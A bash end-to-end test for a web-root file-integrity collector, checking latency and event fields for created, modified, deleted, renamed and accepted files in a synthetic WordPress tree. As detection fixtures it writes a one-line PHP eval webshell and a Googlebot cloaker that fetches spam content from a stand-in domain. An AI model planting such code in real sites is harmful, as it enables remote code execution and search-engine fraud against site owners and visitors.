#!/bin/bash
# ronda-test: exclusive
# The web-root watch, live: a 50,000-file WordPress-shaped root is baselined
# silently; then, with the collector running, a webshell dropped into
# wp-content/uploads reaches Kafka as file_created with a webshell marker
# within 2 s; a cloaker prepended to index.php is file_modified with a
# cloaking marker naming its domain; a deletion and a rename are one event
# each; a WordPress-sized benign update (1,500 files) gives 1,500 events
# without markers; after `--accept` of a folder, its changes carry
# accepted: true (and others do not).
# (exclusive: it measures a 2 s latency.)
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/webroot_lib.sh"
require_cmd kcat curl

ROOT=$T/www
FOLDERS=500 FILES=100
t0=$(_now_ms)
gen_tree "$ROOT" $FOLDERS $FILES 300
gen_ms=$(( $(_now_ms) - t0 ))
n=$(find "$ROOT" -type f | wc -l)
echo "generated $n files in $gen_ms ms"
[ "$n" -ge 50000 ] || fail "the tree has $n files"

start_broker --partitions 3
consume_fast "$T/events.jsonl"
METRICS=127.0.0.1:$(( 20000 + RANDOM % 20000 ))
webroot_config "$T/collector.yaml" "$ROOT" "metrics:
  listen: $METRICS
webroot:
  settle: 200"
spawn collector "$RONDA_BIN/ronda-collector" -c "$T/collector.yaml"
COLLECTOR_PID=$SPAWNED_PID
t0=$(_now_ms)
wait_baselined collector 120
echo "baseline of $n files: $(( $(_now_ms) - t0 )) ms; $(grep -o 'baselined ([^)]*)' "$T/collector.log")"
[ "$(metric ronda_collector_webroot_files_baselined_total)" -ge 50000 ] ||
    fail "files baselined: $(metric ronda_collector_webroot_files_baselined_total)"
sleep 0.5
[ "$(count_where "$T/events.jsonl" 'True')" = 0 ] ||
    fail "the benign tree's first scan sent events: $(head -c 600 "$T/events.jsonl")"

# 1. A webshell dropped into uploads: on the topic within 2 s.
SHELL_REL=wp-content/uploads/2026/11/wp-cache.php
mkdir -p "$ROOT/wp-content/uploads/2026/11"
t0=$(_now_ms)
printf '%s\n' "<?php @eval(base64_decode(\$_POST['z0'])); ?>" >"$ROOT/$SHELL_REL"
wait_events "$T/events.jsonl" "f['relpath'] == '$SHELL_REL'" 1 5 || fail "no event for the webshell"
lat=$(( $(_now_ms) - t0 ))
echo "webshell: file event on the topic after $lat ms"
limit=$(awk -v f="$RONDA_TIME_FACTOR" 'BEGIN { printf "%d", 2000 * f }')
[ "$lat" -lt "$limit" ] || fail "the webshell took $lat ms to reach Kafka (limit $limit)"
[ "$(count_where "$T/events.jsonl" "f['relpath'] == '$SHELL_REL' and e['event']['action'] == 'file_created' \
    and 'webshell' in e['rule']['category'] and e['event']['kind'] == 'alert' \
    and e['file']['hash']['sha256'] and f['scan'] == 'watch' and e['event']['severity'] >= 3")" = 1 ] ||
    fail "the webshell event lacks a field: $(events_where "$T/events.jsonl" "f['relpath'] == '$SHELL_REL'")"

# 2. A cloaker prepended to index.php: file_modified, cloaking marker, the domain.
{
    cat <<'PHP'
<?php
function is_google_bot() {
    $agents = array("Googlebot", "Google-Site-Verification", "Google-InspectionTool");
    foreach ($agents as $agent) {
        if (strpos($_SERVER['HTTP_USER_AGENT'], $agent) !== false) return true;
    }
    return false;
}
if (is_google_bot()) {
    echo file_get_contents('https://lp.slot88gacor.example/pemkab/index.txt');
    exit;
}
?>
PHP
    cat "$ROOT/index.php"
} >"$T/index.new"
cat "$T/index.new" >"$ROOT/index.php"
wait_events "$T/events.jsonl" "f['relpath'] == 'index.php'" 1 5 || fail "no event for index.php"
[ "$(count_where "$T/events.jsonl" "f['relpath'] == 'index.php' and e['event']['action'] == 'file_modified' \
    and 'cloaking' in e['rule']['category'] and 'lp.slot88gacor.example' in f.get('domains', []) \
    and f['previous']['sha256'] != e['file']['hash']['sha256']")" = 1 ] ||
    fail "index.php: $(events_where "$T/events.jsonl" "f['relpath'] == 'index.php'")"

# 3. A deletion and a rename (of a file, then of a folder).
rm "$ROOT/wp-content/plugins/p2/inc/f1.php"
mv "$ROOT/wp-content/plugins/p7/inc/f2.php" "$ROOT/wp-content/plugins/p7/inc/f2-old.php"
wait_events "$T/events.jsonl" "f['relpath'] == 'wp-content/plugins/p2/inc/f1.php' and e['event']['action'] == 'file_deleted'" 1 5 ||
    fail "no file_deleted: $(tail -n 3 "$T/events.jsonl")"
wait_events "$T/events.jsonl" "f['relpath'] == 'wp-content/plugins/p7/inc/f2-old.php' and e['event']['action'] == 'file_renamed' \
    and f['previous']['relpath'] == 'wp-content/plugins/p7/inc/f2.php'" 1 5 ||
    fail "no file_renamed: $(tail -n 3 "$T/events.jsonl")"
[ "$(count_where "$T/events.jsonl" "f['relpath'] == 'wp-content/plugins/p7/inc/f2.php'")" = 0 ] ||
    fail "the rename was also reported as a deletion"
# A folder renamed: each of its 100 files is renamed (paired by inode and hash).
mv "$ROOT/wp-content/plugins/p492" "$ROOT/wp-content/plugins/p492-old"
wait_events "$T/events.jsonl" "e['event']['action'] == 'file_renamed' and f['relpath'].startswith('wp-content/plugins/p492-old/inc/') \
    and f['previous']['relpath'] == f['relpath'].replace('p492-old', 'p492')" 100 10 ||
    fail "folder rename: $(count_where "$T/events.jsonl" "f['relpath'].startswith('wp-content/plugins/p492')") events"
[ "$(count_where "$T/events.jsonl" "f['relpath'].startswith('wp-content/plugins/p492/')")" = 0 ] ||
    fail "the folder rename also gave deletions"

# 4. A benign WordPress-sized update: 1,500 files rewritten, no markers.
before=$(count_where "$T/events.jsonl" 'True')
/usr/bin/python3 - "$ROOT" <<'PY'
import os, sys
root, n = sys.argv[1], 0
for i in range(12, 500, 5):          # plugin folders: wp-content/plugins/pN/inc
    d = os.path.join(root, "wp-content/plugins/p%d/inc" % i)
    for j in range(100):
        if n == 1500:
            break
        with open(os.path.join(d, "f%d.php" % j), "a") as f:
            f.write("// updated to 6.7.1\n")
        n += 1
print("updated", n)
PY
wait_events "$T/events.jsonl" "e['event']['action'] == 'file_modified' and f['relpath'].startswith('wp-content/plugins/p') \
    and f['relpath'] != 'wp-content/plugins/p2/inc/f1.php'" 1500 60 ||
    fail "the update: $(count_where "$T/events.jsonl" "f['relpath'].startswith('wp-content/plugins/p')") of 1500 events"
[ "$(count_where "$T/events.jsonl" "f['relpath'].startswith('wp-content/plugins/p') and ('rule' in e or e['event']['kind'] != 'event')")" = 0 ] ||
    fail "a benign update carried markers: $(events_where "$T/events.jsonl" "f['relpath'].startswith('wp-content/plugins/p') and 'rule' in e" | head -n 2)"
echo "benign update: $(( $(count_where "$T/events.jsonl" 'True') - before )) events, none with markers"

# 5. An accepted folder: its changes carry accepted: true, others do not.
out=$("$RONDA_BIN/ronda-collector" -c "$T/collector.yaml" --accept "$ROOT/wp-content/themes/" --for 30m) ||
    fail "--accept exited $?"
echo "$out"
[ "$(printf '%s\n' "$out" | wc -l)" = 1 ] || fail "--accept printed more than one line"
"$RONDA_BIN/ronda-collector" -c "$T/collector.yaml" --accept /elsewhere 2>/dev/null &&
    fail "--accept of a path in no web root succeeded"
# The running collector re-reads acceptances at most every second.
sleep 1.2
echo "// theme update" >>"$ROOT/wp-content/themes/t3/f5.php"
echo "// admin update" >>"$ROOT/wp-admin/part0/f5.php"
wait_events "$T/events.jsonl" "f['relpath'] == 'wp-content/themes/t3/f5.php' and f.get('accepted') is True" 1 5 ||
    fail "no accepted event: $(events_where "$T/events.jsonl" "f['relpath'] == 'wp-content/themes/t3/f5.php'")"
wait_events "$T/events.jsonl" "f['relpath'] == 'wp-admin/part0/f5.php' and 'accepted' not in f" 1 5 ||
    fail "wp-admin/part0/f5.php: $(events_where "$T/events.jsonl" "f['relpath'] == 'wp-admin/part0/f5.php'")"

# Every event: key = site, unique ids for distinct changes, parseable.
/usr/bin/python3 - "$T/events.jsonl" <<'PY' || fail "event check failed"
import json, sys
ids = {}
for line in open(sys.argv[1]):
    e = json.loads(line)
    assert e["organization"]["id"] == "bontangkota.go.id"
    assert e["event"]["dataset"] == "file.integrity"
    assert len(e["event"]["id"]) == 32
    k = (e["ronda"]["file"]["relpath"], e["event"]["action"], e["file"].get("mtime"))
    ids.setdefault(e["event"]["id"], set()).add(k)
bad = [i for i, ks in ids.items() if len(ks) > 1]
assert not bad, "one id for different changes: %r" % bad[:3]
print("events", sum(1 for _ in open(sys.argv[1])), "distinct ids", len(ids))
PY
stop "$COLLECTOR_PID" --timeout 15 || fail "collector exited with $?"
grep -E "stats: webroot" "$T/collector.log" | tail -n 1
# Every file event as sent validates against schemas/event.schema.json.
python3 "$RONDA_SRC/tests/e2e/check_events.py" "$T/events.jsonl" --full \
    --schema "$RONDA_SRC/schemas/event.schema.json" || fail "file events break the event schema"
